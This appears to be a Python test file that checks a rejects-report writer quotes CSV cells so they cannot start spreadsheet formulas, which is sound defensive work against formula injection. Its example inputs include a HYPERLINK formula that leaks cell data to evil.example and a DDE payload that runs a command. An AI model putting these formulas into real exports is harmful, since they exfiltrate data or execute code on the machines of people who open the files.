"""CSV formula injection (OWASP "CSV Injection") in the rejects report: no cell it writes can
start a formula, whatever the import file or the server's messages held."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

import msgspec
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from market.listings.rejects import FORMULA_STARTS, RejectsWriter, spreadsheet_safe

# Text that leans towards the dangerous first characters, and anything else too.
_CELL = st.one_of(
    st.text(),
    st.builds(lambda first, rest: first + rest, st.sampled_from((*FORMULA_STARTS, "'", " ")), st.text()),
)


@settings(max_examples=500, deadline=None)
@given(cell=_CELL)
@example(cell='=HYPERLINK("http://evil.example/?leak="&A1,"click")')
@example(cell="@SUM(1+1)*cmd|' /C calc'!A0")
@example(cell="-5")
@example(cell="\t=1+1")
@example(cell="\r=1+1")
@example(cell="")
def test_a_neutralised_cell_never_starts_a_formula_and_still_shows_the_text(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (cell, f"'{cell}")  # the original text, after the quote if there is one
    assert (safe == cell) == (not cell.startswith(FORMULA_STARTS))  # other cells are untouched


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_each_owasp_character_is_quoted(first: str) -> None:
    assert spreadsheet_safe(f"{first}1+1") == f"'{first}1+1"


@settings(max_examples=200, deadline=None)
@given(records=st.lists(st.tuples(st.integers(1, 10**9), st.none() | _CELL, _CELL, _CELL), min_size=1))
def test_no_cell_written_to_a_csv_report_starts_a_formula(
    records: list[tuple[int, str | None, str, str]],
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "r.csv"
        writer = RejectsWriter(path)
        for record in records:
            writer.add(*record)
        writer.close()
        text = path.read_bytes().decode("utf-8")  # as written: CR inside cells kept
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    assert header == list(RejectsWriter.FIELDS) and len(rows) == len(records)
    for row, (line, ref, field, message) in zip(rows, records, strict=True):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
        assert row == [
            str(line),
            spreadsheet_safe(ref or ""),
            spreadsheet_safe(field),
            spreadsheet_safe(message),
        ]


def test_an_ndjson_report_keeps_cells_exact(tmp_path: Path) -> None:
    writer = RejectsWriter(tmp_path / "r.ndjson")
    writer.add(3, "=HYPERLINK(1)", "", "-5 is not allowed")
    writer.close()
    assert msgspec.json.decode((tmp_path / "r.ndjson").read_bytes()) == {
        "line": 3,
        "external_ref": "=HYPERLINK(1)",
        "field": "",
        "message": "-5 is not allowed",
    }
